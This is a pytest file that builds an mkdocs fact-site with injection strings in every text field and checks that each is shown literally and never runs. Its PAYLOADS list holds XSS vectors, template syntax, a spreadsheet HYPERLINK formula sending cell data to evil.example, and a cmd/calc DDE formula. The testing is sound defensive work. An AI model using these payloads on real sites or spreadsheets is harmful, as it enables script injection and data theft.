"""Markup, links and template syntax in every text field are shown literally and never run.

One real `mkdocs build --strict` (per test session) of a fact set whose every displayed text
field holds an injection string: country names and aliases, event names and places, claims,
and the title, outlet and author of every source (a copied corpus with its own sources.yml).
Each page's visible text must hold the string as written, and the audit must find nothing.
"""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser

from generator.audit import audit_site
from generator.hosts import configured_hosts

from .workspace import REPO_ROOT

PAYLOADS = [
    "<script>alert(origin)</script>",
    "<img src=x onerror=alert(origin)>",
    '<svg><a href="javascript:alert(origin)">x</a></svg>',
    "<details open ontoggle=alert(origin)>",
    "an unclosed <b>bold",
    "[x](javascript:alert(origin))",
    "&#106;avascript:alert(origin)",
    "[x][a]\n\n[a]: javascript:alert(origin)",
    'Name {: onclick="alert(origin)" }',
    "Place\n\n# Heading",
    '{{ "ab"|upper }}',
    "{% raw %}",
    "Claim\u2028---\u2028# Heading\u2028![x](https://evil.example/x.png)",
    "Claim\u2029\u2029![y](//evil.example/y.png)\r\n\r\n<https://evil.example/z>",
    '=HYPERLINK("http://evil.example/?leak="&A,"click")',
    '@SUM(A+A)*cmd|" /C calc"!A',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Its "on Monday" gives the events' date: the site shows it with the (hostile) outlet.
QUOTE = (
    "France announced it had begun reconnaissance missions over Iraq on Monday, while Australia"
    " said it would provide eight aircraft and 600 personnel to help combat IS."
)
DOC = "001_45c1c8414a270103"
#: A document stating the numbers the payloads hold: a claim adds no number its quotes lack.
NUMBERS = "The injected claims state the numbers 0, 1, 7 and 106 and no others."
NUMBERS_DOC = "900_numbers"


def code(index: int) -> str:
    return "X" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index]


def one_line(text: str) -> str:
    """A payload as a name, alias or place may hold it: line breaks are refused there."""
    return " ".join(text.splitlines())


def injected_facts() -> dict[str, list[dict[str, object]]]:
    """A country, an event and a fact per payload, the payload in each of their text fields
    (on one line in names, aliases and places)."""
    source = {"doc": DOC, "quote": QUOTE}
    return {
        "countries": [
            {"code": code(i), "name": one_line(text), "aliases": [one_line(text)]}
            for i, text in enumerate(PAYLOADS)
        ],
        "events": [
            {
                "id": f"injected-{i}",
                "name": one_line(text),
                "date": "2014-09-15",
                "place": one_line(text),
                "countries": [code(i)],
                "sources": [source],
            }
            for i, text in enumerate(PAYLOADS)
        ],
        "facts": [
            {
                "id": f"injected-fact-{i}",
                "countries": [code(i)],
                "event": f"injected-{i}",
                "topic": "other",
                "claim": text,
                "sources": [source, {"doc": NUMBERS_DOC, "quote": NUMBERS}],
            }
            for i, text in enumerate(PAYLOADS)
        ],
    }


def metadata_slots(count: int) -> list[tuple[str, str, str]]:
    """(title, outlet, author) for `count` documents, cycling through every payload."""
    cycle = [one_line(PAYLOADS[i % len(PAYLOADS)]) for i in range(3 * max(count, 4))]
    return [(cycle[3 * i], cycle[3 * i + 1], cycle[3 * i + 2]) for i in range(count)]


def add_numbers_document(corpus: Path) -> None:
    data = (NUMBERS + "\n").encode()
    (corpus / f"{NUMBERS_DOC}.txt").write_bytes(data)
    digest = hashlib.sha256(data).hexdigest()
    entry = f"  - id: {NUMBERS_DOC}\n    title: Numbers\n    sha256: {digest}\n"
    with (corpus / "sources.yml").open("a", encoding="utf-8") as stream:
        stream.write(entry)


def write_sources(corpus: Path) -> dict[str, tuple[str, str, str]]:
    listed = yaml.load((corpus / "sources.yml").read_text(encoding="utf-8"), yaml.BaseLoader)
    documents = listed["documents"]
    shown = {}
    for entry, (title, outlet, author) in zip(
        documents, metadata_slots(len(documents)), strict=True
    ):
        entry.update(title=title, outlet=outlet, author=author)
        shown[entry["id"]] = (title, outlet, author)
    text = json.dumps({"documents": documents}, ensure_ascii=False, indent=1)
    (corpus / "sources.yml").write_text(text + "\n", encoding="utf-8")  # JSON is YAML
    return shown


class _Text(HTMLParser):
    """The visible text of a page: character data outside script and style, entities decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self._hidden = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._hidden += tag in ("script", "style")

    def handle_endtag(self, tag: str) -> None:
        self._hidden -= tag in ("script", "style")

    def handle_data(self, data: str) -> None:
        if not self._hidden:
            self.parts.append(data)


def visible_text(page: Path) -> str:
    parser = _Text()
    parser.feed(page.read_text(encoding="utf-8"))
    return " ".join("".join(parser.parts).split())


def folded(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="session")
def injected_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, object]]:
    root = tmp_path_factory.mktemp("injected")
    shutil.copytree(REPO_ROOT / "corpus", root / "corpus")
    add_numbers_document(root / "corpus")
    shutil.copytree(REPO_ROOT / "docs", root / "docs")
    shutil.copy(REPO_ROOT / "mkdocs.yml", root / "mkdocs.yml")
    (root / "facts").mkdir()
    facts = json.dumps(injected_facts(), ensure_ascii=True, indent=1)  # LS would end a line
    (root / "facts" / "injected.yml").write_text(facts + "\n", encoding="utf-8")
    sources = write_sources(root / "corpus")
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(root / "site")]
    built = subprocess.run(
        command, cwd=root, capture_output=True, text=True, timeout=300, check=False
    )
    assert built.returncode == 0, built.stderr[-3000:]
    return root / "site", {"sources": sources}


def test_the_audit_finds_nothing_on_the_injected_site(
    injected_site: tuple[Path, dict[str, object]],
) -> None:
    site, _ = injected_site
    count, findings = audit_site(site, configured_hosts(site.parent / "mkdocs.yml"))
    assert count >= 2 * len(PAYLOADS) + 5  # a page per country, event and source at least
    assert findings == []


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_country_event_and_fact_text_is_shown_literally(
    index: int, injected_site: tuple[Path, dict[str, object]]
) -> None:
    site, _ = injected_site
    payload = folded(PAYLOADS[index])
    country_page = visible_text(site / "countries" / f"{code(index).lower()}.html")
    event_page = visible_text(site / "events" / f"injected-{index}.html")
    assert country_page.count(payload) >= 2  # its name, and the claim of its fact
    assert event_page.count(payload) >= 3  # the event's name and place, and the fact's claim


@pytest.mark.parametrize("doc", sorted(p.stem for p in (REPO_ROOT / "corpus").glob("*.txt")))
def test_source_metadata_is_shown_literally(
    doc: str, injected_site: tuple[Path, dict[str, object]]
) -> None:
    site, context = injected_site
    sources = context["sources"]
    assert isinstance(sources, dict)
    page = visible_text(site / "sources" / f"{doc}.html")
    for text in sources[doc]:
        assert folded(text) in page


def test_no_csv_cell_starts_a_spreadsheet_formula(
    injected_site: tuple[Path, dict[str, object]],
) -> None:
    site, _ = injected_site
    text = (site / "downloads" / "facts.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2 * len(PAYLOADS) + 1  # a row per fact source, and the header
    claims = [row[rows[0].index("claim")] for row in rows[1:]]
    assert "'" + PAYLOADS[-1] in claims
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_no_payload_became_markup(injected_site: tuple[Path, dict[str, object]]) -> None:
    """Belt and braces: none of the payloads' tags or headings exist as elements anywhere."""
    site, _ = injected_site
    for page in site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<details open ontoggle" not in html
        assert "<b>bold" not in html
        assert not re.search(r"<h1[^>]*>\s*Heading", html)
        assert not re.search(r"<[a-z]+\b[^>]*(?:src|href)=\"[^\"]*evil\.example", html)
        assert ">AB<" not in html


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def served(injected_site: tuple[Path, dict[str, object]]) -> Iterator[str]:
    handler = functools.partial(_QuietHandler, directory=str(injected_site[0]))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


def test_no_page_runs_a_payload_in_chromium(
    chromium: Browser, served: str, injected_site: tuple[Path, dict[str, object]]
) -> None:
    """Every page holding a payload, opened in headless Chromium: no dialog, no navigation."""
    site, _ = injected_site
    pages = sorted(
        path.relative_to(site).as_posix()
        for folder in ("countries", "events", "sources")
        for path in (site / folder).glob("*.html")
        if path.name != "index.html"
    )
    assert len(pages) >= 2 * len(PAYLOADS) + 5
    dialogs: list[str] = []
    context = chromium.new_context()
    page = context.new_page()
    local = re.compile("^" + re.escape(served))
    page.route(lambda url: not local.match(url), lambda route: route.abort())  # no network
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in pages:
        page.goto(served + path, wait_until="load")
        page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        assert page.url == served + path
    context.close()
    assert dialogs == []
